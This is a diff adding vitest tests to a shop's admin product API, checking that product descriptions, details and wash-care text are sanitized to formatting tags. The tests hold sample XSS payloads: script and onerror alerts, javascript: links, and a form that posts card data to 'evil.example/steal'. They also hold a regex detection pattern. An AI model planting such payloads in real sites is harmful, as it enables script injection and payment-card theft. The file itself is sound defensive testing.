@@ -4,6 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTestShop, type TestShop } from '../../../test/shop';
 import { checkoutFixtures } from '../checkout/checkout.fixtures';
 import { type AdminClient, adminFixtures, expectStatus } from './admin.fixtures';
+import { sanitizeRichText } from './rich-text';
 
 let shop: TestShop;
 const admin = adminFixtures(() => shop);
@@ -110,6 +111,52 @@ describe('products', () => {
     expect((await storefrontCards()).some((c) => c.product_id === product.id)).toBe(false);
     expect((await owner.get(`/products/${product.id}`)).statusCode).toBe(404);
     expect((await admin.lastAudit(owner, 'products', product.id))?.action).toBe('delete');
+  });
+
+  it('stores description, details and wash care cleaned to the formatting tags, on create and on update', async () => {
+    const hostile = [
+      '<p>Soft <strong>muslin</strong></p>',
+      '<script>alert(1)</script>',
+      '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>',
+      '<style>body { display: none }</style>',
+      '<img src="x" onerror="alert(2)">',
+      '<a href="javascript:alert(3)" onclick="alert(4)">care</a>',
+    ].join('');
+    const unsafe = /<script|<form|<input|<button|<style|<img|onerror|onclick|javascript:|alert/i;
+    const expectClean = (text: string) => {
+      expect(text).not.toMatch(unsafe);
+      expect(text).toContain('<p>Soft <strong>muslin</strong></p>');
+    };
+
+    const created = await create({ description: hostile, product_details: hostile, wash_care: hostile });
+    for (const text of [created.description, created.product_details, created.wash_care]) expectClean(text);
+    const stored = (await shop.database.db.select().from(products).where(eq(products.id, created.id)))[0];
+    for (const text of [stored?.description, stored?.productDetails, stored?.washCare]) expectClean(text ?? '');
+    const detail = ProductDetailAnswer.parse(
+      expectStatus(await shop.post('product_detail', { product_id: created.id }), 200),
+    ).products;
+    for (const text of [detail.description, detail.product_details, detail.wash_care]) expectClean(text);
+
+    const fresh = await create();
+    expectStatus(
+      await owner.patch(`/products/${fresh.id}`, {
+        description: hostile,
+        product_details: hostile,
+        wash_care: hostile,
+      }),
+      200,
+    );
+    const updated = (await shop.database.db.select().from(products).where(eq(products.id, fresh.id)))[0];
+    for (const text of [updated?.description, updated?.productDetails, updated?.washCare]) expectClean(text ?? '');
+  });
+
+  it('leaves the demo shop’s texts as they are: they are already within the allow-list', async () => {
+    const rows = await shop.database.db.select().from(products);
+    expect(rows.length).toBeGreaterThan(10);
+    const changed = rows
+      .flatMap((row) => [row.description, row.productDetails, row.washCare])
+      .filter((text) => sanitizeRichText(text) !== text);
+    expect(changed).toEqual([]);
   });
 
   it('lists with search, filters and pages', async () => {
